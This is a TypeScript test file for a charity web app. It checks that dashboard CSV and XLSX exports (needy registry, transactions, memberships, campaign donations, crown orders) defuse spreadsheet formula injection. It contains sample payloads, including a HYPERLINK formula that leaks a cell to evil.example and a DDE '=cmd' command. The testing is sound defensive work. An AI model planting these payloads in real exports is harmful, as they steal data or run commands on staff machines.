import { inflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { setupTestApp, uniqueMobile, type TestClient } from '../harness.ts'
import { seedCharityTypes } from '../../src/modules/charities/charities.seed.ts'
import { seedSubscriptionTypes } from '../../src/modules/subscriptions/subscriptions.seed.ts'

/**
 * Issue 29, finding 4: text anyone typed (a needy person's name, a donor's shown name, a crown's
 * message...) that begins with `=`, `+`, `-`, `@`, a tab or a carriage return runs as a formula
 * when staff open a CSV export in Excel or LibreOffice. Every export the dashboard writes gets
 * such cells with a leading apostrophe (OWASP), and XLSX cells are text, never formulas.
 */
const ctx = await setupTestApp({}, [], { workers: false })
await seedCharityTypes(ctx.db)
await seedSubscriptionTypes(ctx.db)

const FORMULA = /^[=+\-@\t\r]/
const EVIL = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"جزئیات")',
  command: "=cmd|' /C calc'!A0",
  plus: '+1+2',
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
}

async function signedIn(roles: string[], values: Record<string, unknown> = {}) {
  const client = ctx.client()
  await ctx.actingAs(client, await ctx.createUser(values, roles))
  return client
}
const root = await signedIn(['super-admin'])

/** RFC 4180 cells of a CSV (the byte-order mark dropped). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  const body = text.replace(/^\ufeff/, '')
  const endCell = () => {
    rows.at(-1)!.push(cell)
    cell = ''
  }
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') endCell()
    else if (c === '\r' && body[i + 1] === '\n') {
      endCell()
      rows.push([])
      i++
    } else cell += c
  }
  endCell()
  return rows
}

/** The files of a zip (an XLSX), read from its central directory. */
function unzip(zip: Buffer): Map<string, string> {
  const files = new Map<string, string>()
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]))
  let at = zip.readUInt32LE(end + 16)
  for (let n = zip.readUInt16LE(end + 10); n > 0; n--) {
    const method = zip.readUInt16LE(at + 10)
    const size = zip.readUInt32LE(at + 20)
    const nameLength = zip.readUInt16LE(at + 28)
    const skip = nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32)
    const name = zip.subarray(at + 46, at + 46 + nameLength).toString()
    const local = zip.readUInt32LE(at + 42)
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28)
    const data = zip.subarray(start, start + size)
    files.set(name, (method === 8 ? inflateRawSync(data) : data).toString())
    at += 46 + skip
  }
  return files
}

/** Downloads an export as CSV and XLSX and checks every cell, and that `planted` came through. */
async function checkExport(client: TestClient, path: string, planted: string[]) {
  const join = path.includes('?') ? '&' : '?'
  const csv = await client.get(`${path}${join}format=csv`)
  expect(csv.status, csv.text).toBe(200)
  const cells = csvCells(csv.text).flat()
  expect(cells.filter((c) => FORMULA.test(c))).toEqual([])
  for (const text of planted) expect(cells).toContain(`'${text}`)

  const cookie = [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ')
  const xlsx = await fetch(`${ctx.url}${path}${join}format=xlsx`, { headers: { cookie } })
  expect(xlsx.status).toBe(200)
  const files = unzip(Buffer.from(await xlsx.arrayBuffer()))
  const sheets = [...files].filter(([name]) => name.startsWith('xl/worksheets/'))
  expect(sheets.length).toBeGreaterThan(0)
  for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[\s>]/)
  const strings = [...files.values()].join('')
  const escaped = (t: string) =>
    t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')
  for (const text of planted)
    expect(strings.includes(escaped(text)) || strings.includes(text.replace(/&/g, '&amp;'))).toBe(
      true,
    )
}

async function payAtSandbox(client: TestClient, bill: { id: number; token: string }) {
  const res = await client.post(`/api/bills/${bill.id}/pay`, {
    gateway: 'sandbox',
    token: bill.token,
  })
  expect(res.status, JSON.stringify(res.body)).toBe(200)
  const authority = (res.body.data.redirect.url as string).split('/').pop()!
  await fetch(`${ctx.url}/api/payments/callback/sandbox?Authority=${authority}&Status=OK`, {
    redirect: 'manual',
  })
}

const day = (offset: number) =>
  new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10)
const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Tehran' }).format(new Date())

describe('exports staff open in a spreadsheet', () => {
  it('neutralise formulas in the needy registry', async () => {
    const made = await root.post('/api/dashboard/needies', {
      name: EVIL.command,
      family: EVIL.minus,
      national_code: '0499370899',
      mobile: '09121112233',
      address: EVIL.at,
      gender: 'female',
    })
    expect(made.status, JSON.stringify(made.body)).toBe(201)
    await checkExport(root, '/api/dashboard/needies/export', [
      made.body.data.name,
      made.body.data.family,
      made.body.data.address,
    ])
  })

  it('neutralise formulas in the transactions', async () => {
    const donor = await signedIn([], { firstName: EVIL.plus, lastName: 'رضایی' })
    const res = await donor.post('/api/charities', { type: 'sadaqa', amount: 30000 })
    await payAtSandbox(donor, res.body.data.bill)
    await checkExport(root, '/api/dashboard/transactions/export', [`${EVIL.plus} رضایی`])
  })

  it('neutralise formulas in the memberships', async () => {
    const memberClient = await signedIn([], { firstName: EVIL.hyperlink, lastName: 'کریمی' })
    const res = await memberClient.post('/api/subscriptions', {
      type: 'general-support',
      amount: 100000,
      periods: 1,
    })
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    await payAtSandbox(memberClient, res.body.data.bill)
    await checkExport(root, '/api/dashboard/user-subscriptions/export', [`${EVIL.hyperlink} کریمی`])
  })

  it("neutralise formulas in a campaign's donations and in the income report", async () => {
    const campaign = await root.post('/api/dashboard/campaigns', {
      title: EVIL.at,
      slug: `formula-${Date.now()}`,
      summary: 'آزمایش',
      description: '<p>شرح</p>',
      goal: 1_000_000,
      min_amount: 10000,
      suggested_amounts: [50000],
      starts_at: day(-1),
      ends_at: day(10),
      published: true,
    })
    expect(campaign.status, JSON.stringify(campaign.body)).toBe(201)
    const donor = ctx.client()
    const gift = await donor.post(`/api/campaigns/${campaign.body.data.slug}/donate`, {
      amount: 20000,
      display_name: EVIL.minus,
      mobile: uniqueMobile(),
    })
    expect(gift.status, JSON.stringify(gift.body)).toBe(201)
    await payAtSandbox(donor, gift.body.data.bill)
    await checkExport(root, '/api/dashboard/campaign-donations/export', [EVIL.minus])
    const query = new URLSearchParams({ from: today, to: today, group: 'day', by: 'campaign' })
    await checkExport(root, `/api/dashboard/reports/income/export?${query}`, [EVIL.at])
  })

  it('neutralise formulas in the crown orders', async () => {
    const type = await root.post('/api/dashboard/crown-types', {
      title: EVIL.plus,
      price: 500_000,
    })
    const place = await root.post('/api/dashboard/crown-locations', {
      name: 'مسجد آزمایش',
      address: EVIL.minus,
      lat: 35.7,
      lng: 51.39,
    })
    const order = await ctx.client().post('/api/crowns', {
      deceased: EVIL.command,
      giver: EVIL.tab,
      crown_type_id: type.body.data.id,
      location_id: place.body.data.id,
      ceremony_at: new Date(Date.now() + 48 * 3_600_000).toISOString(),
      message: EVIL.at,
      mobile: uniqueMobile(),
    })
    expect(order.status, JSON.stringify(order.body)).toBe(201)
    const saved = (await root.get(`/api/dashboard/crowns/${order.body.data.crown.id}`)).body.data
    await checkExport(root, '/api/dashboard/crowns/export', [
      saved.deceased,
      saved.giver,
      saved.message,
      EVIL.plus,
      EVIL.minus,
    ])
  })
})
